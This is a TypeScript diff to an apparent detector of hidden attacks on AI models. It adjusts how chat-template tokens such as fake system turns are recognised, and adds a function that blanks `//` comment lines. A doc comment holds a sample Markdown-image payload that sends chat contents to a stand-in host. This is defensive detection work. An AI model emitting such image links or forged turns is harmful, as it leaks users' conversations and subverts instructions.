@@ -90,9 +90,9 @@ export function chatTurn(text: string): boolean {
 
 /**
  * After a chat-template token and a blank, a lower-case word that goes on talking about the token: the token is named
- * in a sentence, not opening a turn.
+ * in a sentence, not opening a turn ("fake <|system|> turns": a plural noun the token qualifies).
  */
-const NAMING_WORD = /^(?:for|or|and|as|is|are|in|of|with|which|that|tokens?|markers?|tags?|delimiters?)\b/;
+const NAMING_WORD = /^(?:for|or|and|as|is|are|in|of|with|which|that|tokens?|markers?|tags?|delimiters?|turns)\b/;
 
 /**
  * An upper-case slot name as a query value, for the reader to fill in; not a campaign name of a `utm_` parameter
@@ -167,6 +167,33 @@ export function imageExfiltration(text: string): boolean {
   }
   countWork(reads + n);
   return false;
+}
+
+/**
+ * `text` with every line that opens with `//` (after blanks) blanked, same length: in a program, a comment line of a
+ * C-family language (Go, JavaScript, Rust, Java) is shown as written and never rendered, so a Markdown image in it
+ * (`// the model could emit ![x](https://h.example/?q=<chat>)`) is never loaded, as in a code block. Only `//`: a `#`
+ * line of a Markdown document is a heading, which is rendered. One pass over the line starts, linear.
+ */
+export function commentLinesBlanked(text: string): string {
+  const n = text.length;
+  let out = '';
+  let from = 0;
+  let line = 0;
+  while (line < n) {
+    let k = line;
+    while (k < n && (text.charCodeAt(k) === 0x20 || text.charCodeAt(k) === 0x09)) k++;
+    const nl = text.indexOf('\n', k);
+    const end = nl < 0 ? n : nl;
+    if (text.startsWith('//', k)) {
+      out += text.slice(from, k) + ' '.repeat(end - k);
+      from = end;
+    }
+    if (nl < 0) break;
+    line = nl + 1;
+  }
+  countWork(2 * n);
+  return from === 0 ? text : out + text.slice(from);
 }
 
 /** Longest HTML comment or attribute value read as a hidden-text view. */
